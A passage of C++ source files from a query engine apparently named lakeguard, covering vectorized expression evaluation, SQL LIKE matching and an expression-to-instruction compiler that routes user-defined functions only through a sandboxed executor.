      return Status::InvalidArgument("AND requires BOOLEAN operands");
    }
    return Value::Bool(true);
  }
  if (op == BinaryOpKind::kOr) {
    if (!l.is_null() && l.is_bool() && l.bool_value()) {
      return Value::Bool(true);
    }
    if (!r.is_null() && r.is_bool() && r.bool_value()) {
      return Value::Bool(true);
    }
    if (l.is_null() || r.is_null()) return Value::Null();
    if (!l.is_bool() || !r.is_bool()) {
      return Status::InvalidArgument("OR requires BOOLEAN operands");
    }
    return Value::Bool(false);
  }

  if (l.is_null() || r.is_null()) return Value::Null();

  switch (op) {
    case BinaryOpKind::kAdd:
      if (l.is_string() || r.is_string()) {
        return Value::String(l.ToString() + r.ToString());
      }
      if (l.is_int() && r.is_int()) {
        return Value::Int(l.int_value() + r.int_value());
      }
      {
        LG_ASSIGN_OR_RETURN(double a, l.AsDouble());
        LG_ASSIGN_OR_RETURN(double b, r.AsDouble());
        return Value::Double(a + b);
      }
    case BinaryOpKind::kSub:
      if (l.is_int() && r.is_int()) {
        return Value::Int(l.int_value() - r.int_value());
      }
      {
        LG_ASSIGN_OR_RETURN(double a, l.AsDouble());
        LG_ASSIGN_OR_RETURN(double b, r.AsDouble());
        return Value::Double(a - b);
      }
    case BinaryOpKind::kMul:
      if (l.is_int() && r.is_int()) {
        return Value::Int(l.int_value() * r.int_value());
      }
      {
        LG_ASSIGN_OR_RETURN(double a, l.AsDouble());
        LG_ASSIGN_OR_RETURN(double b, r.AsDouble());
        return Value::Double(a * b);
      }
    case BinaryOpKind::kDiv: {
      LG_ASSIGN_OR_RETURN(double a, l.AsDouble());
      LG_ASSIGN_OR_RETURN(double b, r.AsDouble());
      if (b == 0.0) return Value::Null();  // SQL: division by zero -> NULL
      return Value::Double(a / b);
    }
    case BinaryOpKind::kMod: {
      LG_ASSIGN_OR_RETURN(int64_t a, l.AsInt());
      LG_ASSIGN_OR_RETURN(int64_t b, r.AsInt());
      if (b == 0) return Value::Null();
      return Value::Int(a % b);
    }
    case BinaryOpKind::kEq:
      return Value::Bool(l.SqlEquals(r));
    case BinaryOpKind::kNe:
      return Value::Bool(!l.SqlEquals(r));
    case BinaryOpKind::kLt:
      return Value::Bool(l.Compare(r) < 0);
    case BinaryOpKind::kLe:
      return Value::Bool(l.Compare(r) <= 0);
    case BinaryOpKind::kGt:
      return Value::Bool(l.Compare(r) > 0);
    case BinaryOpKind::kGe:
      return Value::Bool(l.Compare(r) >= 0);
    case BinaryOpKind::kAnd:
    case BinaryOpKind::kOr:
      break;  // handled above
  }
  return Status::Internal("unreachable binary op eval");
}

namespace {

Result<int> ResolveColumn(const ColumnRefExpr& ref, const Schema& schema) {
  if (ref.resolved()) {
    if (ref.index() >= static_cast<int>(schema.num_fields())) {
      return Status::Internal("column index " + std::to_string(ref.index()) +
                              " out of range for schema " + schema.ToString());
    }
    return ref.index();
  }
  int idx = schema.FindField(ref.name());
  if (idx < 0) {
    return Status::NotFound("unresolved column '" + ref.name() +
                            "' not in schema " + schema.ToString());
  }
  return idx;
}

}  // namespace

bool SqlLikeMatch(const std::string& s, const std::string& pattern) {
  // Iterative wildcard match over '%' (any run) and '_' (single char).
  size_t si = 0, pi = 0;
  size_t star_p = std::string::npos, star_s = 0;
  while (si < s.size()) {
    if (pi < pattern.size() &&
        (pattern[pi] == '_' || pattern[pi] == s[si])) {
      ++si;
      ++pi;
    } else if (pi < pattern.size() && pattern[pi] == '%') {
      star_p = pi++;
      star_s = si;
    } else if (star_p != std::string::npos) {
      pi = star_p + 1;
      si = ++star_s;
    } else {
      return false;
    }
  }
  while (pi < pattern.size() && pattern[pi] == '%') ++pi;
  return pi == pattern.size();
}

Result<TypeKind> InferExprType(const ExprPtr& expr, const Schema& input) {
  switch (expr->kind()) {
    case ExprKind::kLiteral:
      return static_cast<const LiteralExpr&>(*expr).value().type();
    case ExprKind::kColumnRef: {
      const auto& ref = static_cast<const ColumnRefExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(int idx, ResolveColumn(ref, input));
      return input.field(static_cast<size_t>(idx)).type;
    }
    case ExprKind::kBinaryOp:
      return InferBinaryType(static_cast<const BinaryOpExpr&>(*expr), input);
    case ExprKind::kUnaryOp: {
      const auto& e = static_cast<const UnaryOpExpr&>(*expr);
      if (e.op() == UnaryOpKind::kNot) return TypeKind::kBool;
      return InferExprType(e.child(), input);
    }
    case ExprKind::kFunctionCall: {
      const auto& e = static_cast<const FunctionCallExpr&>(*expr);
      if (IsAggregateFunctionName(e.name())) {
        // COUNT is int, AVG double, SUM widens its argument, MIN/MAX follow
        // the argument type.
        std::string up = ToUpperAscii(e.name());
        if (up == "COUNT") return TypeKind::kInt64;
        if (up == "AVG") return TypeKind::kFloat64;
        if (e.args().empty()) {
          return Status::InvalidArgument(up + " requires an argument");
        }
        LG_ASSIGN_OR_RETURN(TypeKind arg_t, InferExprType(e.args()[0], input));
        if (up == "SUM") {
          return arg_t == TypeKind::kFloat64 ? TypeKind::kFloat64
                                             : TypeKind::kInt64;
        }
        return arg_t;  // MIN/MAX
      }
      LG_ASSIGN_OR_RETURN(const BuiltinFunction* fn, LookupBuiltin(e.name()));
      std::vector<TypeKind> arg_types;
      for (const ExprPtr& a : e.args()) {
        LG_ASSIGN_OR_RETURN(TypeKind t, InferExprType(a, input));
        arg_types.push_back(t);
      }
      if (arg_types.size() < fn->min_args || arg_types.size() > fn->max_args) {
        return Status::InvalidArgument(
            "wrong argument count for " + e.name() + ": got " +
            std::to_string(arg_types.size()));
      }
      return fn->infer(arg_types);
    }
    case ExprKind::kCast:
      return static_cast<const CastExpr&>(*expr).target();
    case ExprKind::kCase: {
      const auto& e = static_cast<const CaseExpr&>(*expr);
      TypeKind result = TypeKind::kNull;
      for (const CaseExpr::Branch& b : e.branches()) {
        LG_ASSIGN_OR_RETURN(TypeKind t, InferExprType(b.value, input));
        if (result == TypeKind::kNull) result = t;
        if (t == TypeKind::kFloat64 && result == TypeKind::kInt64) result = t;
      }
      if (e.else_value()) {
        LG_ASSIGN_OR_RETURN(TypeKind t, InferExprType(e.else_value(), input));
        if (result == TypeKind::kNull) result = t;
        if (t == TypeKind::kFloat64 && result == TypeKind::kInt64) result = t;
      }
      return result;
    }
    case ExprKind::kIn:
    case ExprKind::kIsNull:
    case ExprKind::kLike:
      return TypeKind::kBool;
    case ExprKind::kUdfCall:
      return static_cast<const UdfCallExpr&>(*expr).return_type();
    case ExprKind::kFusedPolicy:
      return InferExprType(static_cast<const FusedPolicyExpr&>(*expr).child(),
                           input);
  }
  return Status::Internal("unreachable expr kind");
}

Result<Column> EvaluateExpr(const ExprPtr& expr, const RecordBatch& batch,
                            const EvalContext& ctx) {
  const size_t rows = batch.num_rows();
  switch (expr->kind()) {
    case ExprKind::kLiteral: {
      const Value& v = static_cast<const LiteralExpr&>(*expr).value();
      ColumnBuilder b(v.type() == TypeKind::kNull ? TypeKind::kNull
                                                  : v.type());
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        LG_RETURN_IF_ERROR(b.AppendValue(v));
      }
      return b.Finish();
    }
    case ExprKind::kColumnRef: {
      const auto& ref = static_cast<const ColumnRefExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(int idx, ResolveColumn(ref, batch.schema()));
      return batch.column(static_cast<size_t>(idx));
    }
    case ExprKind::kBinaryOp: {
      const auto& e = static_cast<const BinaryOpExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column l, EvaluateExpr(e.left(), batch, ctx));
      LG_ASSIGN_OR_RETURN(Column r, EvaluateExpr(e.right(), batch, ctx));

      // Fast vectorized paths for the hot arithmetic/compare cases.
      if (l.kind() == TypeKind::kInt64 && r.kind() == TypeKind::kInt64 &&
          e.op() == BinaryOpKind::kAdd) {
        ColumnBuilder b(TypeKind::kInt64);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          if (l.IsNull(i) || r.IsNull(i)) {
            b.AppendNull();
          } else {
            b.AppendInt(l.IntAt(i) + r.IntAt(i));
          }
        }
        return b.Finish();
      }

      LG_ASSIGN_OR_RETURN(TypeKind out_type,
                          InferBinaryType(e, batch.schema()));
      ColumnBuilder b(out_type);
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        LG_ASSIGN_OR_RETURN(
            Value v, EvalBinaryScalar(e.op(), l.GetValue(i), r.GetValue(i)));
        LG_RETURN_IF_ERROR(b.AppendValue(v));
      }
      return b.Finish();
    }
    case ExprKind::kUnaryOp: {
      const auto& e = static_cast<const UnaryOpExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(e.child(), batch, ctx));
      if (e.op() == UnaryOpKind::kNot) {
        ColumnBuilder b(TypeKind::kBool);
        b.Reserve(rows);
        for (size_t i = 0; i < rows; ++i) {
          if (c.IsNull(i)) {
            b.AppendNull();
          } else if (c.kind() != TypeKind::kBool) {
            return Status::InvalidArgument("NOT requires BOOLEAN input");
          } else {
            b.AppendBool(!c.BoolAt(i));
          }
        }
        return b.Finish();
      }
      // Negation.
      ColumnBuilder b(c.kind());
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        if (c.IsNull(i)) {
          b.AppendNull();
        } else if (c.kind() == TypeKind::kInt64) {
          b.AppendInt(-c.IntAt(i));
        } else if (c.kind() == TypeKind::kFloat64) {
          b.AppendDouble(-c.DoubleAt(i));
        } else {
          return Status::InvalidArgument("unary '-' requires numeric input");
        }
      }
      return b.Finish();
    }
    case ExprKind::kFunctionCall: {
      const auto& e = static_cast<const FunctionCallExpr&>(*expr);
      if (IsAggregateFunctionName(e.name())) {
        return Status::InvalidArgument(
            "aggregate function " + e.name() +
            " cannot be evaluated row-wise (analyzer must lift it)");
      }
      LG_ASSIGN_OR_RETURN(const BuiltinFunction* fn, LookupBuiltin(e.name()));
      if (e.args().size() < fn->min_args || e.args().size() > fn->max_args) {
        return Status::InvalidArgument("wrong argument count for " + e.name());
      }
      std::vector<Column> args;
      args.reserve(e.args().size());
      for (const ExprPtr& a : e.args()) {
        LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(a, batch, ctx));
        args.push_back(std::move(c));
      }
      LG_ASSIGN_OR_RETURN(TypeKind out_type,
                          InferExprType(expr, batch.schema()));
      ColumnBuilder b(out_type);
      b.Reserve(rows);
      std::vector<Value> row_args(args.size());
      for (size_t i = 0; i < rows; ++i) {
        for (size_t j = 0; j < args.size(); ++j) {
          row_args[j] = args[j].GetValue(i);
        }
        LG_ASSIGN_OR_RETURN(Value v, fn->eval(row_args, ctx));
        LG_RETURN_IF_ERROR(b.AppendValue(v));
      }
      return b.Finish();
    }
    case ExprKind::kCast: {
      const auto& e = static_cast<const CastExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(e.child(), batch, ctx));
      ColumnBuilder b(e.target());
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        LG_ASSIGN_OR_RETURN(Value v, c.GetValue(i).CastTo(e.target()));
        LG_RETURN_IF_ERROR(b.AppendValue(v));
      }
      return b.Finish();
    }
    case ExprKind::kCase: {
      const auto& e = static_cast<const CaseExpr&>(*expr);
      std::vector<Column> conditions;
      std::vector<Column> values;
      for (const CaseExpr::Branch& br : e.branches()) {
        LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(br.condition, batch, ctx));
        LG_ASSIGN_OR_RETURN(Column v, EvaluateExpr(br.value, batch, ctx));
        conditions.push_back(std::move(c));
        values.push_back(std::move(v));
      }
      Column else_col;
      bool has_else = e.else_value() != nullptr;
      if (has_else) {
        LG_ASSIGN_OR_RETURN(else_col, EvaluateExpr(e.else_value(), batch, ctx));
      }
      LG_ASSIGN_OR_RETURN(TypeKind out_type,
                          InferExprType(expr, batch.schema()));
      ColumnBuilder b(out_type);
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        bool matched = false;
        for (size_t k = 0; k < conditions.size(); ++k) {
          const Column& c = conditions[k];
          if (!c.IsNull(i) && c.kind() == TypeKind::kBool && c.BoolAt(i)) {
            LG_RETURN_IF_ERROR(b.AppendValue(values[k].GetValue(i)));
            matched = true;
            break;
          }
        }
        if (!matched) {
          if (has_else) {
            LG_RETURN_IF_ERROR(b.AppendValue(else_col.GetValue(i)));
          } else {
            b.AppendNull();
          }
        }
      }
      return b.Finish();
    }
    case ExprKind::kIn: {
      const auto& e = static_cast<const InExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(e.child(), batch, ctx));
      ColumnBuilder b(TypeKind::kBool);
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        if (c.IsNull(i)) {
          b.AppendNull();
          continue;
        }
        Value v = c.GetValue(i);
        bool found = false;
        for (const Value& item : e.list()) {
          if (v.SqlEquals(item)) {
            found = true;
            break;
          }
        }
        b.AppendBool(e.negated() ? !found : found);
      }
      return b.Finish();
    }
    case ExprKind::kIsNull: {
      const auto& e = static_cast<const IsNullExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(e.child(), batch, ctx));
      ColumnBuilder b(TypeKind::kBool);
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        bool is_null = c.IsNull(i);
        b.AppendBool(e.negated() ? !is_null : is_null);
      }
      return b.Finish();
    }
    case ExprKind::kLike: {
      const auto& e = static_cast<const LikeExpr&>(*expr);
      LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(e.child(), batch, ctx));
      ColumnBuilder b(TypeKind::kBool);
      b.Reserve(rows);
      for (size_t i = 0; i < rows; ++i) {
        if (c.IsNull(i)) {
          b.AppendNull();
          continue;
        }
        bool hit = SqlLikeMatch(c.StringAt(i), e.pattern());
        b.AppendBool(e.negated() ? !hit : hit);
      }
      return b.Finish();
    }
    case ExprKind::kUdfCall: {
      const auto& e = static_cast<const UdfCallExpr&>(*expr);
      if (ctx.udf_evaluator == nullptr) {
        return Status::FailedPrecondition(
            "UDF '" + e.function_name() +
            "' reached the evaluator without a sandbox-backed executor; "
            "user code must not run inside the engine");
      }
      std::vector<Column> args;
      args.reserve(e.args().size());
      for (const ExprPtr& a : e.args()) {
        LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(a, batch, ctx));
        args.push_back(std::move(c));
      }
      return ctx.udf_evaluator->EvalUdf(e, args, rows, ctx);
    }
    case ExprKind::kFusedPolicy:
      // Transparent annotation: interpreted evaluation sees the child.
      return EvaluateExpr(static_cast<const FusedPolicyExpr&>(*expr).child(),
                          batch, ctx);
  }
  return Status::Internal("unreachable expr kind in eval");
}

Result<Value> EvaluateScalar(const ExprPtr& expr, const EvalContext& ctx) {
  // Evaluate over a one-row batch with a placeholder column.
  ColumnBuilder dummy(TypeKind::kInt64);
  dummy.AppendInt(0);
  Schema one_col(std::vector<FieldDef>{{"__dummy", TypeKind::kInt64, false}});
  RecordBatch batch(one_col, {dummy.Finish()});
  LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(expr, batch, ctx));
  if (c.length() != 1) {
    return Status::Internal("scalar evaluation produced " +
                            std::to_string(c.length()) + " rows");
  }
  return c.GetValue(0);
}

Result<std::vector<uint8_t>> EvaluatePredicateMask(const ExprPtr& predicate,
                                                   const RecordBatch& batch,
                                                   const EvalContext& ctx) {
  LG_ASSIGN_OR_RETURN(Column c, EvaluateExpr(predicate, batch, ctx));
  if (c.kind() != TypeKind::kBool && c.kind() != TypeKind::kNull) {
    return Status::InvalidArgument("predicate must be BOOLEAN, got " +
                                   std::string(TypeKindName(c.kind())));
  }
  std::vector<uint8_t> mask(batch.num_rows(), 0);
  for (size_t i = 0; i < mask.size(); ++i) {
    mask[i] = (!c.IsNull(i) && c.kind() == TypeKind::kBool && c.BoolAt(i))
                  ? 1
                  : 0;
  }
  return mask;
}

size_t MaskCountSet(const std::vector<uint8_t>& mask) {
  size_t n = 0;
  for (uint8_t m : mask) {
    if (m) ++n;
  }
  return n;
}

bool MaskAllSet(const std::vector<uint8_t>& mask) {
  for (uint8_t m : mask) {
    if (!m) return false;
  }
  return true;
}

RecordBatch ApplyMask(const RecordBatch& batch,
                      const std::vector<uint8_t>& mask) {
  if (MaskAllSet(mask)) return batch;
  return batch.Filter(mask);
}

std::vector<uint8_t> BoolColumnToMask(const Column& column) {
  std::vector<uint8_t> mask(column.length(), 0);
  for (size_t i = 0; i < column.length(); ++i) {
    mask[i] = (!column.IsNull(i) && column.kind() == TypeKind::kBool &&
               column.BoolAt(i))
                  ? 1
                  : 0;
  }
  return mask;
}

}  // namespace lakeguard
