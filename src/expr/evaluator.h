#ifndef LAKEGUARD_EXPR_EVALUATOR_H_
#define LAKEGUARD_EXPR_EVALUATOR_H_

#include <functional>
#include <string>
#include <vector>

#include "columnar/record_batch.h"
#include "expr/expr.h"

namespace lakeguard {

class UdfColumnEvaluator;

/// Per-query evaluation context. Carries the identity the query runs as —
/// the hook that makes dynamic views / row filters *user-bound* — plus the
/// group-membership oracle and the (engine-injected) UDF evaluation channel.
struct EvalContext {
  std::string current_user;
  std::function<bool(const std::string& user, const std::string& group)>
      is_group_member;
  /// ABAC attribute oracle: returns the value of `key` for `user`, or empty
  /// when unset (USER_ATTRIBUTE then evaluates to NULL).
  std::function<std::string(const std::string& user, const std::string& key)>
      user_attribute;
  /// Set by the physical UDF operator; expressions containing UdfCall fail
  /// to evaluate when absent (user code must never run implicitly).
  UdfColumnEvaluator* udf_evaluator = nullptr;
};

/// Engine hook that evaluates a user-defined function over argument columns.
/// Implementations: in-process (unisolated baseline) and sandboxed via the
/// Dispatcher (Lakeguard). Keeping this behind an interface is what lets
/// Table 2 compare the two with everything else identical.
class UdfColumnEvaluator {
 public:
  virtual ~UdfColumnEvaluator() = default;
  virtual Result<Column> EvalUdf(const UdfCallExpr& udf,
                                 const std::vector<Column>& args,
                                 size_t num_rows, const EvalContext& ctx) = 0;
};

/// Computes the result type of `expr` against `input` (analyzer use).
Result<TypeKind> InferExprType(const ExprPtr& expr, const Schema& input);

/// Vectorized evaluation of `expr` over `batch`.
Result<Column> EvaluateExpr(const ExprPtr& expr, const RecordBatch& batch,
                            const EvalContext& ctx);

/// Evaluates an input-free expression (constants + context functions).
Result<Value> EvaluateScalar(const ExprPtr& expr, const EvalContext& ctx);

/// Evaluates `predicate` to a selection mask (NULL -> excluded, SQL WHERE
/// semantics).
Result<std::vector<uint8_t>> EvaluatePredicateMask(const ExprPtr& predicate,
                                                   const RecordBatch& batch,
                                                   const EvalContext& ctx);

/// Number of selected rows in a predicate mask.
size_t MaskCountSet(const std::vector<uint8_t>& mask);

/// True when the mask selects every row (the batch can pass through a
/// filter stage untouched).
bool MaskAllSet(const std::vector<uint8_t>& mask);

/// Applies `mask` to `batch` without copying when the mask selects all
/// rows — the per-batch fast path of streaming filter / row-policy stages.
RecordBatch ApplyMask(const RecordBatch& batch,
                      const std::vector<uint8_t>& mask);

/// Converts a boolean result column to a selection mask (non-true and NULL
/// rows excluded) — used when a filter condition was computed by a UDF.
std::vector<uint8_t> BoolColumnToMask(const Column& column);

/// True if `s` matches SQL LIKE `pattern` ('%' any run, '_' one char).
bool SqlLikeMatch(const std::string& s, const std::string& pattern);

/// Row-wise binary-operator semantics (three-valued AND/OR, NULL
/// propagation, '+' concat, / and % by zero -> NULL). This is the single
/// source of truth shared by the tree-walking interpreter and the generic
/// kernel of compiled programs, so the two paths cannot drift.
Result<Value> EvalBinaryScalar(BinaryOpKind op, const Value& l,
                               const Value& r);

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_EVALUATOR_H_
