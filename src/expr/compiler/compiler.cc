#include "expr/compiler/compiler.h"

#include <limits>

#include "common/strings.h"
#include "expr/functions.h"

namespace lakeguard {

namespace {

/// Mirror of the interpreter's InferBinaryType, over already-resolved
/// operand types (rule order matters: FLOAT64 wins over STRING for '+').
TypeKind BinaryOutType(BinaryOpKind op, TypeKind lt, TypeKind rt) {
  switch (op) {
    case BinaryOpKind::kAdd:
    case BinaryOpKind::kSub:
    case BinaryOpKind::kMul:
    case BinaryOpKind::kMod:
      if (lt == TypeKind::kFloat64 || rt == TypeKind::kFloat64) {
        return TypeKind::kFloat64;
      }
      if (op == BinaryOpKind::kAdd &&
          (lt == TypeKind::kString || rt == TypeKind::kString)) {
        return TypeKind::kString;
      }
      return TypeKind::kInt64;
    case BinaryOpKind::kDiv:
      return TypeKind::kFloat64;
    default:
      return TypeKind::kBool;
  }
}

bool IsComparisonOp(BinaryOpKind op) {
  switch (op) {
    case BinaryOpKind::kEq:
    case BinaryOpKind::kNe:
    case BinaryOpKind::kLt:
    case BinaryOpKind::kLe:
    case BinaryOpKind::kGt:
    case BinaryOpKind::kGe:
      return true;
    default:
      return false;
  }
}

FusedKernel PickKernel(BinaryOpKind op, TypeKind lt, TypeKind rt) {
  if (op == BinaryOpKind::kAnd || op == BinaryOpKind::kOr) {
    return (lt == TypeKind::kBool && rt == TypeKind::kBool)
               ? FusedKernel::kBool3VL
               : FusedKernel::kGeneric;
  }
  if (IsComparisonOp(op)) {
    if (lt == TypeKind::kInt64 && rt == TypeKind::kInt64) {
      return FusedKernel::kInt64Compare;
    }
    if (lt == TypeKind::kFloat64 && rt == TypeKind::kFloat64) {
      return FusedKernel::kFloat64Compare;
    }
    if (lt == TypeKind::kString && rt == TypeKind::kString &&
        (op == BinaryOpKind::kEq || op == BinaryOpKind::kNe)) {
      return FusedKernel::kStringCompare;
    }
    return FusedKernel::kGeneric;
  }
  if (op == BinaryOpKind::kDiv) return FusedKernel::kGeneric;
  // + - * %
  return (lt == TypeKind::kInt64 && rt == TypeKind::kInt64)
             ? FusedKernel::kInt64Arith
             : FusedKernel::kGeneric;
}

class Lowerer {
 public:
  explicit Lowerer(const Schema& input) : input_(input) {}

  /// Emits instructions for `expr` bottom-up; returns the result register.
  Result<uint16_t> Lower(const ExprPtr& expr) {
    switch (expr->kind()) {
      case ExprKind::kFusedPolicy:
        return Lower(static_cast<const FusedPolicyExpr&>(*expr).child());
      case ExprKind::kLiteral: {
        const Value& v = static_cast<const LiteralExpr&>(*expr).value();
        FusedInstruction inst;
        inst.op = FusedOpCode::kLoadConst;
        inst.literal = v;
        inst.out_type = v.type();
        inst.row_invariant = true;
        return Emit(std::move(inst));
      }
      case ExprKind::kColumnRef: {
        const auto& ref = static_cast<const ColumnRefExpr&>(*expr);
        int idx = ref.index();
        if (idx < 0) idx = input_.FindField(ref.name());
        if (idx < 0 || idx >= static_cast<int>(input_.num_fields())) {
          return Status::NotFound("cannot compile unresolved column '" +
                                  ref.name() + "' against schema " +
                                  input_.ToString());
        }
        FusedInstruction inst;
        inst.op = FusedOpCode::kLoadColumn;
        inst.column_index = idx;
        inst.ref_index = ref.index();
        inst.name = ref.name();
        inst.out_type = input_.field(static_cast<size_t>(idx)).type;
        return Emit(std::move(inst));
      }
      case ExprKind::kBinaryOp: {
        const auto& e = static_cast<const BinaryOpExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.left()));
        const TypeKind lt = reg_types_[a];
        FusedInstruction inst;
        inst.op = FusedOpCode::kBinary;
        inst.bin_op = e.op();
        inst.a = a;
        TypeKind rt = TypeKind::kNull;
        const ExprPtr rhs = StripFusedPolicyMarkers(e.right());
        if (rhs->kind() == ExprKind::kLiteral) {
          // Immediate operand: no splat register, the literal rides in the
          // instruction (the compare-vs-constant shape of most policies).
          inst.b = kNoReg;
          inst.literal = static_cast<const LiteralExpr&>(*rhs).value();
          rt = inst.literal.type();
          inst.row_invariant = reg_invariant_[a];
        } else {
          LG_ASSIGN_OR_RETURN(uint16_t b, Lower(e.right()));
          inst.b = b;
          rt = reg_types_[b];
          inst.row_invariant = reg_invariant_[a] && reg_invariant_[b];
        }
        inst.kernel = PickKernel(e.op(), lt, rt);
        inst.out_type = BinaryOutType(e.op(), lt, rt);
        return Emit(std::move(inst));
      }
      case ExprKind::kUnaryOp: {
        const auto& e = static_cast<const UnaryOpExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.child()));
        FusedInstruction inst;
        inst.op = FusedOpCode::kUnary;
        inst.un_op = e.op();
        inst.a = a;
        inst.out_type =
            e.op() == UnaryOpKind::kNot ? TypeKind::kBool : reg_types_[a];
        inst.row_invariant = reg_invariant_[a];
        return Emit(std::move(inst));
      }
      case ExprKind::kFunctionCall: {
        const auto& e = static_cast<const FunctionCallExpr&>(*expr);
        if (IsAggregateFunctionName(e.name())) {
          return Status::InvalidArgument(
              "aggregate function " + e.name() +
              " cannot be compiled row-wise (analyzer must lift it)");
        }
        LG_ASSIGN_OR_RETURN(const BuiltinFunction* fn, LookupBuiltin(e.name()));
        if (e.args().size() < fn->min_args ||
            e.args().size() > fn->max_args) {
          return Status::InvalidArgument("wrong argument count for " +
                                         e.name());
        }
        FusedInstruction inst;
        inst.op = FusedOpCode::kCall;
        inst.name = e.name();
        inst.fn = fn;
        inst.row_invariant = true;
        std::vector<TypeKind> arg_types;
        for (const ExprPtr& arg : e.args()) {
          LG_ASSIGN_OR_RETURN(uint16_t r, Lower(arg));
          inst.args.push_back(r);
          arg_types.push_back(reg_types_[r]);
          inst.row_invariant = inst.row_invariant && reg_invariant_[r];
        }
        LG_ASSIGN_OR_RETURN(inst.out_type, fn->infer(arg_types));
        return Emit(std::move(inst));
      }
      case ExprKind::kCast: {
        const auto& e = static_cast<const CastExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.child()));
        FusedInstruction inst;
        inst.op = FusedOpCode::kCast;
        inst.a = a;
        inst.cast_target = e.target();
        inst.out_type = e.target();
        inst.row_invariant = reg_invariant_[a];
        return Emit(std::move(inst));
      }
      case ExprKind::kCase: {
        const auto& e = static_cast<const CaseExpr&>(*expr);
        FusedInstruction inst;
        inst.op = FusedOpCode::kCase;
        inst.row_invariant = true;
        TypeKind result = TypeKind::kNull;
        for (const CaseExpr::Branch& br : e.branches()) {
          LG_ASSIGN_OR_RETURN(uint16_t c, Lower(br.condition));
          LG_ASSIGN_OR_RETURN(uint16_t v, Lower(br.value));
          inst.args.push_back(c);
          inst.args.push_back(v);
          inst.row_invariant = inst.row_invariant && reg_invariant_[c] &&
                               reg_invariant_[v];
          const TypeKind t = reg_types_[v];
          if (result == TypeKind::kNull) result = t;
          if (t == TypeKind::kFloat64 && result == TypeKind::kInt64) {
            result = t;
          }
        }
        if (e.else_value()) {
          LG_ASSIGN_OR_RETURN(uint16_t el, Lower(e.else_value()));
          inst.b = el;
          inst.row_invariant = inst.row_invariant && reg_invariant_[el];
          const TypeKind t = reg_types_[el];
          if (result == TypeKind::kNull) result = t;
          if (t == TypeKind::kFloat64 && result == TypeKind::kInt64) {
            result = t;
          }
        }
        inst.out_type = result;
        return Emit(std::move(inst));
      }
      case ExprKind::kIn: {
        const auto& e = static_cast<const InExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.child()));
        FusedInstruction inst;
        inst.op = FusedOpCode::kIn;
        inst.a = a;
        inst.list = e.list();
        inst.negated = e.negated();
        inst.out_type = TypeKind::kBool;
        inst.row_invariant = reg_invariant_[a];
        return Emit(std::move(inst));
      }
      case ExprKind::kIsNull: {
        const auto& e = static_cast<const IsNullExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.child()));
        FusedInstruction inst;
        inst.op = FusedOpCode::kIsNull;
        inst.a = a;
        inst.negated = e.negated();
        inst.out_type = TypeKind::kBool;
        inst.row_invariant = reg_invariant_[a];
        return Emit(std::move(inst));
      }
      case ExprKind::kLike: {
        const auto& e = static_cast<const LikeExpr&>(*expr);
        LG_ASSIGN_OR_RETURN(uint16_t a, Lower(e.child()));
        FusedInstruction inst;
        inst.op = FusedOpCode::kLike;
        inst.a = a;
        inst.pattern = e.pattern();
        inst.negated = e.negated();
        inst.out_type = TypeKind::kBool;
        inst.row_invariant = reg_invariant_[a];
        return Emit(std::move(inst));
      }
      case ExprKind::kUdfCall:
        return Status::FailedPrecondition(
            "UDF call cannot be compiled into a fused program; user code "
            "runs only through the sandboxed UDF operator");
    }
    return Status::Internal("unreachable expr kind in compile");
  }

  std::vector<FusedInstruction> TakeInstrs() { return std::move(instrs_); }
  size_t num_regs() const { return reg_types_.size(); }
  TypeKind reg_type(uint16_t r) const { return reg_types_[r]; }

 private:
  Result<uint16_t> Emit(FusedInstruction inst) {
    if (reg_types_.size() >= kNoReg) {
      return Status::InvalidArgument("expression too large to compile");
    }
    const auto dst = static_cast<uint16_t>(reg_types_.size());
    inst.dst = dst;
    reg_types_.push_back(inst.out_type);
    reg_invariant_.push_back(inst.row_invariant);
    instrs_.push_back(std::move(inst));
    return dst;
  }

  const Schema& input_;
  std::vector<FusedInstruction> instrs_;
  std::vector<TypeKind> reg_types_;
  std::vector<uint8_t> reg_invariant_;
};

}  // namespace

Result<CompiledExpr> CompileExpr(const ExprPtr& expr, const Schema& input) {
  if (expr == nullptr) {
    return Status::InvalidArgument("cannot compile null expression");
  }
  Lowerer lowerer(input);
  LG_ASSIGN_OR_RETURN(uint16_t result, lowerer.Lower(expr));
  CompiledExpr out;
  out.input_schema = input;
  out.result_reg = result;
  out.out_type = lowerer.reg_type(result);
  out.num_regs = static_cast<uint16_t>(lowerer.num_regs());
  out.instrs = lowerer.TakeInstrs();
  out.source = StripFusedPolicyMarkers(expr);
  return out;
}

Result<ExprPtr> DecompileProgram(const CompiledExpr& program) {
  std::vector<ExprPtr> regs(program.num_regs);
  auto reg_at = [&](uint16_t r) -> Result<ExprPtr> {
    if (r >= regs.size() || regs[r] == nullptr) {
      return Status::DataLoss("program register " + std::to_string(r) +
                              " read before being written");
    }
    return regs[r];
  };
  for (const FusedInstruction& inst : program.instrs) {
    if (inst.dst >= regs.size()) {
